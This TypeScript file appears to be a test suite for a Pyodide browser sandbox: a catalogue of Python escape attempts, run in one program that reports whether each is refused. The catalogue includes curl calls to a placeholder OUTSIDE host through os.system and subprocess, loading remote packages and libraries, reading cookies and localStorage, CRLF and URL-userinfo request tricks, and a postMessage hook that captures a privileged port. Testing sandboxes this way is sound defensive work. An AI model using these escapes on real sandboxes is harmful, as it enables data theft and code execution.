/** Ways out of the sandbox from Python: what a program tries. Each is the body of a function that returns what it could get. */
export const pythonAttacks: Readonly<Record<string, string>> = {
  'js.fetch': `import js
return run_sync(js.fetch(OUTSIDE)).status`,
  'pyodide.http.pyfetch': `from pyodide.http import pyfetch
return run_sync(pyfetch(OUTSIDE)).status`,
  'pyodide.http.open_url': `from pyodide.http import open_url
return open_url(OUTSIDE).read()`,
  'urllib.request': `import urllib.request
return urllib.request.urlopen(OUTSIDE).status`,
  'http.client': `import http.client
connection = http.client.HTTPConnection('localhost', PORT)
connection.request('GET', '/http.client')
return connection.getresponse().status`,
  urllib3: `import urllib3
return urllib3.request('GET', OUTSIDE).status`,
  'a socket': `import socket
one = socket.create_connection(('127.0.0.1', PORT), timeout=5)
one.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')
return one.recv(10)`,
  ctypes: `import ctypes
code = ctypes.CDLL(None).system(b'curl ' + OUTSIDE.encode())
assert code == 0, f'system answers {code}'
return code`,
  subprocess: `import subprocess
return subprocess.run(['curl', OUTSIDE])`,
  'os.system': `import os
code = os.system('curl ' + OUTSIDE)
assert code == 0, f'system answers {code}'
return code`,
  micropip: `import micropip
return run_sync(micropip.install(OUTSIDE + '/x-1.0-py3-none-any.whl'))`,
  'pyodide_js.loadPackage': `import pyodide_js
run_sync(pyodide_js.loadPackage(OUTSIDE + '/x-1.0-py3-none-any.whl'))
import x
return 'loaded'`,
  run_js: `from pyodide.code import run_js
return run_js('1 + 1')`,
  'js.eval': `import js
return js.eval('1 + 1')`,
  'a function from text': `import js
return js.Function.new('return 1')()`,
  'synchronous XMLHttpRequest': `import js
request = js.XMLHttpRequest.new()
request.open('GET', OUTSIDE, False)
request.send()
return request.status`,
  'a request of the site': `import js
return run_sync(js.fetch(js.location.origin + '/')).status`,
  importScripts: `import js
return js.importScripts(OUTSIDE)`,
  WebSocket: `import js
return js.WebSocket.new(OUTSIDE)`,
  'a worker': `import js
return js.Worker.new(OUTSIDE)`,
  EventSource: `import js
return js.EventSource.new(OUTSIDE)`,
  'a constructor found on a prototype': `import js
return js.Object.getPrototypeOf(js.globalThis).constructor.prototype.WebSocket.new(OUTSIDE)`,
  indexedDB: `import js
return js.indexedDB.open('x')`,
  caches: `import js
return run_sync(js.caches.open('x'))`,
  'the file system of the origin': `import js
return run_sync(js.navigator.storage.getDirectory())`,
  'a sub-interpreter': `from concurrent import interpreters
return interpreters.create().exec('import urllib.request; urllib.request.urlopen("' + OUTSIDE + '")')`,
  'WebAssembly by streaming': `import js
return run_sync(js.WebAssembly.compileStreaming(js.fetch(OUTSIDE)))`,
  'code in a timer': `import asyncio, js
js.setTimeout('globalThis.ran = 1', 0)
run_sync(asyncio.sleep(0.05))
return js.ran`,
  'a function by Reflect': `import js
from pyodide.ffi import to_js
return js.Reflect.construct(js.Function, to_js(['return 1']))()`,
  'a worker from a blob': `import js
from pyodide.ffi import to_js
return js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(['fetch("' + OUTSIDE + '")']))))`,
  'a beacon': `import js
return js.navigator.sendBeacon(OUTSIDE, 'x')`,
  WebRTC: `import js
return js.RTCPeerConnection.new()`,
  'a font': `import js
font = js.FontFace.new('x', f'url({OUTSIDE}font.woff)')
run_sync(font.load())
return 'loaded'`,
  'a picture in a picture': `import js
from pyodide.ffi import to_js
svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="' + OUTSIDE + '"/></svg>'
kind = to_js({'type': 'image/svg+xml'}, dict_converter=js.Object.fromEntries)
return run_sync(js.createImageBitmap(js.Blob.new(to_js([svg]), kind)))`,
  'what the page keeps': `import js
return js.localStorage.getItem('learn-s3/progress')`,
  cookies: `import js
return run_sync(js.cookieStore.getAll())`,
  'the service worker': `import js
return js.navigator.serviceWorker.controller.postMessage('anything')`,
  'a service worker of its own': `import js
return run_sync(js.navigator.serviceWorker.register(OUTSIDE + 'worker.js'))`,
  'the service workers of the site': `import js
return run_sync(js.navigator.serviceWorker.getRegistrations())`,
  'a folder of the browser': `import js, pyodide_js
return run_sync(pyodide_js.mountNativeFS('/native', run_sync(js.navigator.storage.getDirectory())))`,
  'a library': `import pyodide_js
return run_sync(pyodide_js._api.loadDynlib(OUTSIDE + 'lib.so', True))`,
  'another place for packages': `import pyodide_js
pyodide_js._api.config.packageBaseUrl = OUTSIDE
return run_sync(pyodide_js.loadPackage('numpy'))`,
  'a connection of asyncio': `import asyncio
return run_sync(asyncio.open_connection('127.0.0.1', PORT))`,
  ftplib: `import ftplib
return ftplib.FTP().connect('127.0.0.1', PORT)`,
  'the port, by a spy on what is sent': `import boto3, js
from pyodide.ffi import create_proxy, to_js
own, ports = js.MessagePort.prototype.postMessage, []
def spy(this, message, *rest):
    if hasattr(message, 'runId'):
        ports.append(this)
    return js.Reflect.apply(own, this, to_js([message, *rest]))
js.MessagePort.prototype.postMessage = create_proxy(spy, capture_this=True)
try:
    boto3.client('s3').list_buckets()
finally:
    js.MessagePort.prototype.postMessage = own
assert ports, 'it had taken its own before'
return ports[0]`,
  'an address with a name before its host': `from _sandbox import request
from pyodide.ffi import to_js
answer = run_sync(request('GET', f'https://a.s3.amazonaws.com@localhost:{PORT}/', to_js([]), None, to_js([])))
assert not answer.error, answer.error
return answer.status`,
  'a method with a line break': `from _sandbox import request
from pyodide.ffi import to_js
answer = run_sync(request('GET\\r\\nX', 'https://s3.amazonaws.com/', to_js([]), None, to_js([])))
assert not answer.error, answer.error
return answer.status`,
  'the page above': `import js
return js.parent.location`,
  'the frame': `import js
return js.postMessage('x')`,
  'another service of the page': `import sandbox_port
return sandbox_port.call('keys', 'get')`,
  'the constructor of a service': `import sandbox_port
return sandbox_port.call('files', 'constructor')`,
};

/** Ways that might be open where a frame may ask for what it has made, and answers are there when a call returns. */
export const blockingAttacks: Readonly<Record<string, string>> = {
  'the request of the line': `import js
return js.Object.getPrototypeOf(js.globalThis).XMLHttpRequest.new()`,
  'the fetch of a prototype': `import js
fetch = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis)).fetch
fetch(OUTSIDE)
raise OSError('begun')`,
  'a task that outlives the program': `import asyncio
from pyodide.http import pyfetch
asyncio.ensure_future(pyfetch(OUTSIDE))
raise OSError('begun')`,
  'a service that is not lent': `import _sandbox
return _sandbox.call('keys', 'get')`,
  'a request of the page itself': `import _sandbox
answer = _sandbox.request('GET', OUTSIDE, [], None, [])
assert not answer.error, answer.error
return answer.status`,
};

/** A program that tries all of them, and prints for each in one line how it was refused, or what it got. */
export function attackingProgram(outside: string, attacks = pythonAttacks): string {
  const port = new URL(outside).port;
  const functions = Object.entries(attacks).map(
    ([name, body], index) =>
      `def attack_${index}():\n${body.replaceAll(/^/gm, '    ')}\nattacks.append((${JSON.stringify(name)}, attack_${index}))\n`,
  );
  return `from pyodide.ffi import run_sync
OUTSIDE = ${JSON.stringify(outside)}
PORT = ${port}
attacks = []
${functions.join('\n')}
for name, attack in attacks:
    try:
        print(f'{name}: GOT {attack()!r}')
    except BaseException as error:
        text = ' '.join(str(error).split())
        print(f'{name}: refused, {type(error).__name__}: {text[:160]}')
`;
}
